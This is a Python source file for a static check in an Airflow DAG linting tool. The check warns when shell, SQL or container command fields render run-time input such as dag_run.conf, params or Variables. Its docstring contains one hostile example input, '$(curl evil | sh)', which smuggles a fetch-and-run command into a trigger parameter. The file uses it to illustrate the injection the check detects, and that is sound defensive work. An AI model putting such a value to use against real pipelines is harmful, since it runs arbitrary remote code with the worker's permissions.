"""Run-time input rendered into a shell command or a query: whoever can trigger the DAG (or set a
Variable) chooses what runs with the worker's role.

``bash_command: "echo {{ dag_run.conf['x'] }}"`` validates and runs; a run triggered with
``{"x": "$(curl evil | sh)"}`` then runs that. The check warns at the line; the hint names the
safe way: pass the value through the environment (``env:``) or ``op_kwargs``, quote it, and
declare it as a ``Param`` with a schema so Airflow checks it before the run starts.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from dagforge.checks.base import FileContext
from dagforge.checks.where import Finding
from dagforge.expand import ExpandedDag
from dagforge.language.walk import strings_in, tasks_of

# Task arguments a shell, a database or a container runs as code.
COMMAND_FIELDS = ("bash_command", "sql", "command", "cmds", "arguments")
# What a run's trigger, its params, an upstream asset event or a Variable decides.
_JINJA = re.compile(r"\{\{(.*?)\}\}|\{%(.*?)%\}", re.DOTALL)
_UNTRUSTED = re.compile(
    r"\b(dag_run\s*\.\s*conf|params|triggering_(?:asset|dataset)_events|var\s*\.\s*(?:value|json))"
)
HINT = (
    "pass it through env: (or op_kwargs) and use the variable quoted, e.g. env: {X: "
    '"{{ dag_run.conf[\'x\'] }}"} with bash_command: echo "$X"; and declare it under params '
    "with a schema (pattern or enum) so Airflow checks it before the run"
)


def untrusted_commands(file: FileContext, dag: ExpandedDag) -> Iterator[Finding]:
    """A warning for each command or query field that renders run-time input."""
    for task_id, path, task in tasks_of(dag.config):
        for field in COMMAND_FIELDS:
            found = sorted({m for text in strings_in(task.get(field)) for m in _inputs(text)})
            if found:
                yield Finding(
                    dag=dag,
                    cpath=(*path, field),
                    code="untrusted-input-in-command",
                    message=f"task '{task_id}' renders {', '.join(found)} into {field}: whoever "
                    "sets that value chooses what runs",
                    hint=HINT,
                    key=True,
                )


def _inputs(text: str) -> set[str]:
    inputs: set[str] = set()
    for match in _JINJA.finditer(text):
        expression = match.group(1) or match.group(2) or ""
        inputs.update(re.sub(r"\s+", "", m.group(1)) for m in _UNTRUSTED.finditer(expression))
    return inputs
